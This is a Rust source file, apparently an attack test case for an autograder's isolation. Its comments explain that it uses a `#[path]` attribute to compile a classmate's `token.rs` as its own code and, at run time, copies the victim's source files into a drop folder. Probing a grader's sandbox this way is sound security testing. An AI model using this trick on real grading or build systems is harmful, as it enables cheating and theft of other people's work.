//! Attack (batch): a classmate's submission read and copied.
//!
//! At compile time `#[path]` makes the victim's `token.rs` (in the batch's
//! folder of submissions) this file's module, so this attacker's token
//! checks pass with the victim's code; at run time `new_token` copies every
//! file of the victim's `exercises/src/` into the drop folder.
//!
//! A sound grader compiles and runs a submission where no other submission
//! can be read: this file does not compile (0 passes) and nothing is copied.

#[path = "atk_kit.rs"]
mod kit;

#[path = "@SUBMISSIONS@/victim/exercises/src/token.rs"]
mod copied;

use std::path::Path;
use std::sync::atomic::AtomicBool;

static DONE: AtomicBool = AtomicBool::new(false);

pub fn new_token() -> String {
    if kit::first(&DONE) {
        let from = Path::new(kit::SUBMISSIONS).join("victim/exercises/src");
        let to = Path::new(kit::DROP).join("stolen");
        let _ = std::fs::create_dir_all(&to);
        let mut copied = 0;
        for entry in std::fs::read_dir(&from).into_iter().flatten().flatten().take(64) {
            if std::fs::copy(entry.path(), to.join(entry.file_name())).is_ok() {
                copied += 1;
            }
        }
        if copied > 0 {
            kit::evidence("batch-read-classmate", &format!("copied {copied} files of the victim"));
        }
    }
    copied::new_token()
}
